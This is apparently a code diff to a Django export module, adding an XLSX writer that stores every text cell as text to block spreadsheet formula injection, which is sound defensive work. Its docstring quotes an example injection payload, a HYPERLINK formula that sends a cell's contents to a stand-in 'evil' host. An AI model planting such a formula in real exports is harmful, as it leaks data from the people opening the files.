@@ -1,4 +1,5 @@
-"""CSV exports: every CSV the site produces goes through ``csv_response``, every cell through ``safe_cell``.
+"""CSV and XLSX exports: every CSV the site produces goes through ``csv_response``, every cell through ``safe_cell``;
+an XLSX written by ``xlsx_bytes`` stores every text cell as text.
 
 A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab or a carriage
 return) as a formula: a citizen's name such as ``=HYPERLINK("http://evil/?"&A1,"点击")`` would run on the officer's
@@ -10,7 +11,7 @@ from __future__ import annotations
 import csv
 from collections.abc import Iterable, Iterator, Sequence
 
-from django.http import StreamingHttpResponse
+from django.http import HttpResponse, StreamingHttpResponse
 from django.utils.http import content_disposition_header
 
 FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
@@ -41,5 +42,44 @@ def csv_lines(header: Sequence, rows: Iterable[Sequence]) -> Iterator[str]:
 def csv_response(filename: str, header: Sequence, rows: Iterable[Sequence]) -> StreamingHttpResponse:
     """A CSV download, streamed row by row (an export of a whole year must not be built in memory)."""
     response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
+    response["Content-Disposition"] = content_disposition_header(True, filename)
+    return response
+
+
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+def xlsx_bytes(sheets: Iterable[tuple[str, Sequence, Iterable[Sequence]]]) -> bytes:
+    """An XLSX workbook of (sheet title, header, rows): the header in bold, numbers as numbers, and every text cell
+    stored as text (never a formula, whatever it starts with)."""
+    import io
+
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.styles import Font
+
+    book = Workbook(write_only=True)
+    bold = Font(bold=True)
+
+    def cell(sheet, value, font=None):
+        written = WriteOnlyCell(sheet, value="" if value is None else value)
+        if isinstance(value, str):
+            written.data_type = "s"
+        if font is not None:
+            written.font = font
+        return written
+
+    for title, header, rows in sheets:
+        sheet = book.create_sheet(title[:31])
+        sheet.append([cell(sheet, value, bold) for value in header])
+        for row in rows:
+            sheet.append([cell(sheet, value) for value in row])
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def xlsx_response(filename: str, sheets: Iterable[tuple[str, Sequence, Iterable[Sequence]]]) -> HttpResponse:
+    response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE)
     response["Content-Disposition"] = content_disposition_header(True, filename)
     return response
